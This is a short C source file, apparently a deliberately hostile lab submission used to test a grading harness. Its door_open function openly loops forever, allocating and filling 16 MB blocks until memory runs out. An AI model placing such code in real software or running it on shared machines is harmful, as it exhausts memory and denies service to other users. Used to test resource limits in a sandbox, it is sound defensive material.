/* eats.c: a submission for lab 1 that takes all memory that there is. */
#include "door.h"

#include <stdlib.h>
#include <string.h>

void door_open(struct door *door)
{
    (void)door;
    for (;;) {
        char *more = malloc(1 << 24);
        if (more != NULL)
            memset(more, 1, 1 << 24);
    }
}
